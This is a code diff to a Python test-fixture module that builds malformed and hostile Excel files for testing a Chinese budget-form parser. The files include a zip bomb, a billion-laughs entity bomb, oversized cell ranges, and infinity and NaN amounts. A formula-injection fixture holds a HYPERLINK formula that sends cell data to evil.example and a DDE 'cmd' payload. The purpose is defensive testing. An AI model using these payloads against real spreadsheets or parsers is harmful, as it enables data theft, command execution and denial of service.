@@ -11,8 +11,11 @@ import io
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import xlsxwriter
+
+Builder = Callable[[Path], Path]
 
 
 def _form(path: Path, *, sheet: str = "自评表", hidden: bool = False, extra_sheet: bool = False,
@@ -64,8 +67,8 @@ def zero_byte(folder: Path) -> Path:
     return p
 
 
-def truncated_zip(folder: Path) -> Path:
-    full = _form(folder / "_full.xlsx")
+def truncated_zip(folder: Path, base: Builder | None = None) -> Path:
+    full = (base or _form)(folder / "_full.xlsx")
     data = full.read_bytes()
     full.unlink()
     p = folder / "截断.xlsx"
@@ -86,7 +89,7 @@ def _rewrite(src: Path, dst: Path, change: Callable[[str, bytes], bytes],
     return dst
 
 
-def zip_bomb(folder: Path) -> Path:
+def zip_bomb(folder: Path, base: Builder | None = None) -> Path:
     """A sheet whose XML inflates to ~120 MB (compresses to ~120 KB)."""
     filler = b"<!--" + b"0" * (120 * 1024 * 1024) + b"-->"
 
@@ -95,7 +98,7 @@ def zip_bomb(folder: Path) -> Path:
             return data.replace(b"<sheetData>", filler + b"<sheetData>", 1)
         return data
 
-    return _rewrite(_form(folder / "_b.xlsx"), folder / "压缩炸弹.xlsx", change)
+    return _rewrite((base or _form)(folder / "_b.xlsx"), folder / "压缩炸弹.xlsx", change)
 
 
 _LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
@@ -110,26 +113,26 @@ def _inject_laughs(data: bytes) -> bytes:
     return head + sep + _LAUGHS + rest
 
 
-def laughs_sheet(folder: Path) -> Path:
+def laughs_sheet(folder: Path, base: Builder | None = None) -> Path:
     def change(name: str, data: bytes) -> bytes:
         return _inject_laughs(data) if name == "xl/worksheets/sheet1.xml" else data
 
-    return _rewrite(_form(folder / "_l.xlsx"), folder / "实体炸弹_sheet.xlsx", change)
+    return _rewrite((base or _form)(folder / "_l.xlsx"), folder / "实体炸弹_sheet.xlsx", change)
 
 
-def laughs_shared_strings(folder: Path) -> Path:
+def laughs_shared_strings(folder: Path, base: Builder | None = None) -> Path:
     def change(name: str, data: bytes) -> bytes:
         if name == "xl/sharedStrings.xml":
-            return _inject_laughs(data).replace(b"<t>\xe6\x80\xbb\xe5\x88\x86</t>", b"<t>&lol9;</t>")
+            return _inject_laughs(data).replace(b"<t>", b"<t>&lol9;", 1)
         return data
 
-    return _rewrite(_form(folder / "_s.xlsx"), folder / "实体炸弹_sst.xlsx", change)
+    return _rewrite((base or _form)(folder / "_s.xlsx"), folder / "实体炸弹_sst.xlsx", change)
 
 
-def encrypted(folder: Path) -> Path:
+def encrypted(folder: Path, base: Builder | None = None) -> Path:
     from msoffcrypto.format.ooxml import OOXMLFile
 
-    plain = _form(folder / "_plain.xlsx")
+    plain = (base or _form)(folder / "_plain.xlsx")
     out = folder / "加密.xlsx"
     with plain.open("rb") as fin, out.open("wb") as fout:
         OOXMLFile(fin).encrypt("123456", fout)
@@ -158,7 +161,7 @@ def csv_renamed(folder: Path) -> Path:
     return p
 
 
-def far_cell(folder: Path) -> Path:
+def far_cell(folder: Path, base: Builder | None = None) -> Path:
     """One cell at the last address of a sheet (XFD1048576)."""
     def change(name: str, data: bytes) -> bytes:
         if name == "xl/worksheets/sheet1.xml":
@@ -166,7 +169,7 @@ def far_cell(folder: Path) -> Path:
                                 b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', 1)
         return data
 
-    return _rewrite(_form(folder / "_f.xlsx"), folder / "超大区域.xlsx", change)
+    return _rewrite((base or _form)(folder / "_f.xlsx"), folder / "超大区域.xlsx", change)
 
 
 def many_merges(folder: Path) -> Path:
@@ -242,4 +245,200 @@ def gbk_zip(folder: Path) -> Path:
         data = data.replace(holder, real)
     p = folder / "乡镇报送.zip"
     p.write_bytes(data)
+    return p
+
+
+# ---------------------------------------------------------------- more forms with hostile content
+
+
+def _sheet_xml(name: str, data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
+    return edit(data) if name == "xl/worksheets/sheet1.xml" else data
+
+
+def _patched(folder: Path, out: str, edit: Callable[[bytes], bytes], base: Builder | None = None) -> Path:
+    """The base workbook with its first sheet's XML edited."""
+    tmp = (base or _form)(folder / f"_{out}")
+    return _rewrite(tmp, folder / out, lambda name, data: _sheet_xml(name, data, edit))
+
+
+def laughs_sheet_ref(folder: Path, base: Builder | None = None) -> Path:
+    """The entity bomb declared in the sheet AND referenced from an inline-string cell."""
+    cell = b'<row r="40"><c r="A40" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
+    return _patched(folder, "实体炸弹_引用.xlsx",
+                    lambda d: _inject_laughs(d).replace(b"</sheetData>", cell, 1), base)
+
+
+def dimension_claim(folder: Path, base: Builder | None = None) -> Path:
+    """A sheet whose <dimension> claims the whole grid (A1:XFD1048576)."""
+    def edit(data: bytes) -> bytes:
+        head, sep, rest = data.partition(b"<dimension ref=\"")
+        return head + sep + b"A1:XFD1048576" + rest[rest.index(b"\""):]
+
+    return _patched(folder, "声明百万行.xlsx", edit, base)
+
+
+# A far cell written the ways XML allows; each must be bounded before calamine sees it.
+FAR_CELL_VARIANTS: dict[str, bytes] = {
+    "row_attr": b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
+    "no_row_attr": b'<row><c r="XFD1048576"><v>1</v></c></row>',
+    "lower_case": b'<row><c r="xfd1048576"><v>1</v></c></row>',
+    "spaced_attr": b'<row><c  r = "XFD1048576"><v>1</v></c></row>',
+    "single_quote": b"<row><c r='XFD1048576'><v>1</v></c></row>",
+    "far_row_only": b'<row><c r="A1048576"><v>1</v></c></row>',
+    "inline_string": b'<row><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
+}
+
+
+def far_cell_variant(folder: Path, variant: str, base: Builder | None = None) -> Path:
+    row = FAR_CELL_VARIANTS[variant]
+    return _patched(folder, f"远端单元格_{variant}.xlsx",
+                    lambda d: d.replace(b"</sheetData>", row + b"</sheetData>", 1), base)
+
+
+def prefixed_far_cell(folder: Path) -> Path:
+    """Namespace-prefixed SpreadsheetML (<x:row>, <x:c>; .NET Open XML SDK style) with a far cell."""
+    import re
+
+    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+    def change(name: str, data: bytes) -> bytes:
+        if name not in ("xl/worksheets/sheet1.xml", "xl/workbook.xml"):
+            return data
+        data = re.sub(rb"<(/?)(?![?!])([A-Za-z])", rb"<\1x:\2", data.replace(ns, ns.replace(b"xmlns", b"xmlns:x")))
+        if name == "xl/workbook.xml":
+            return data
+        far = b'<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row></x:sheetData>'
+        return data.replace(b"</x:sheetData>", far, 1)
+
+    return _rewrite(_form(folder / "_p.xlsx"), folder / "前缀命名空间.xlsx", change)
+
+
+def _number_cell(value: bytes) -> Callable[[bytes], bytes]:
+    """Replace the number in D6 (全年预算数 of 年度资金总额) with a raw <v> text."""
+    import re
+
+    return lambda d: re.sub(rb'(<c r="D6"[^>]*>)<v>[^<]*</v>', rb"\1<v>" + value + b"</v>", d, count=1)
+
+
+def inf_amount(folder: Path) -> Path:
+    """A numeric cell holding infinity (<v>inf</v>: Excel never writes it, scripts can)."""
+    return _patched(folder, "金额无穷大.xlsx", _number_cell(b"inf"))
+
+
+def nan_number(folder: Path) -> Path:
+    """A numeric cell holding NaN (<v>NaN</v>)."""
+    return _patched(folder, "金额非数.xlsx", _number_cell(b"NaN"))
+
+
+def huge_amount(folder: Path) -> Path:
+    """A numeric cell holding 1e308 (finite, but any sum overflows to inf)."""
+    return _patched(folder, "金额极大.xlsx", _number_cell(b"1E+308"))
+
+
+def text_inf_amount(folder: Path) -> Path:
+    return _form(folder / "金额文字无穷.xlsx", amount="-inf")
+
+
+def date_amount(folder: Path) -> Path:
+    """A date typed into the 全年预算数 cell (a date-formatted number)."""
+    import datetime as dt
+
+    p = folder / "金额是日期.xlsx"
+    wb = xlsxwriter.Workbook(str(p))
+    ws = wb.add_worksheet("自评表")
+    _write_selfeval(ws, big_text=None, amount=100.0)
+    ws.write_datetime("D6", dt.datetime(2026, 3, 1), wb.add_format({"num_format": "yyyy-mm-dd"}))
+    wb.close()
+    return p
+
+
+def long_target(folder: Path) -> Path:
+    """A 10,000-character 年度指标值 (neither operator+number+unit nor a qualitative term)."""
+    p = folder / "超长指标值.xlsx"
+    wb = xlsxwriter.Workbook(str(p))
+    ws = wb.add_worksheet("自评表")
+    _write_selfeval(ws, big_text=None, amount=100.0)
+    ws.write("E13", "超" * 10_000)
+    wb.close()
+    return p
+
+
+def injection_form(folder: Path) -> Path:
+    """Submission text that a spreadsheet would run as a formula if written unguarded."""
+    p = folder / "公式注入.xlsx"
+    wb = xlsxwriter.Workbook(str(p))
+    ws = wb.add_worksheet("自评表")
+    _write_selfeval(ws, big_text=None, amount=100.0)
+    ws.write_string("B3", INJECTION["project"])  # write_string: never turned into a formula here
+    ws.write_string("B4", INJECTION["unit"])
+    ws.write_string("E13", INJECTION["target"])
+    wb.close()
+    return p
+
+
+INJECTION = {
+    "project": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "target": "+1+1",
+}
+
+
+# ---------------------------------------------------------------- execution exports (pbm monitor)
+
+EXPORT_ROWS: list[list[Any]] = [
+    ["2026年10月预算执行情况（单位：万元）"],
+    ["单位编码", "单位名称", "项目名称", "全年预算数", "累计支出"],
+    ["101", "县财政局", "项目A", 1000.0, 900.0],
+    ["102", "县教育局", "项目B", 500.0, 100.0],
+    ["合计", None, None, 1500.0, 1000.0],
+]
+
+
+def export(path: Path, rows: list[list[Any]] | None = None) -> Path:
+    """A clean monthly execution export (budget system layout) written with xlsxwriter."""
+    wb = xlsxwriter.Workbook(str(path))
+    ws = wb.add_worksheet("执行情况")
+    for r, row in enumerate(rows or EXPORT_ROWS):
+        for c, value in enumerate(row):
+            if value is not None:
+                ws.write(r, c, value)
+    wb.close()
+    return path
+
+
+def export_xls_renamed(folder: Path) -> Path:
+    import xlwt
+
+    book = xlwt.Workbook(encoding="utf-8")
+    ws = book.add_sheet("执行情况")
+    for r, row in enumerate(EXPORT_ROWS):
+        for c, value in enumerate(row):
+            if value is not None:
+                ws.write(r, c, value)
+    p = folder / "执行_其实是xls.xlsx"
+    buf = io.BytesIO()
+    book.save(buf)
+    p.write_bytes(buf.getvalue())
+    return p
+
+
+def export_csv_renamed(folder: Path) -> Path:
+    p = folder / "执行_其实是csv.xlsx"
+    lines = [",".join("" if v is None else str(v) for v in row) for row in EXPORT_ROWS]
+    p.write_text("\n".join(lines) + "\n", encoding="gbk")
+    return p
+
+
+def export_bad_amounts(folder: Path) -> Path:
+    rows = [list(r) for r in EXPORT_ROWS]
+    rows[2][3], rows[3][4] = "NaN", "-inf"
+    return export(folder / "执行_金额异常.xlsx", rows)
+
+
+def zip_many_members(folder: Path, count: int) -> Path:
+    """A zip of ``count`` tiny members (the member-count limit)."""
+    p = folder / "文件过多.zip"
+    with zipfile.ZipFile(p, "w") as z:
+        for i in range(count):
+            z.writestr(f"f{i:05d}.txt", b"")
     return p
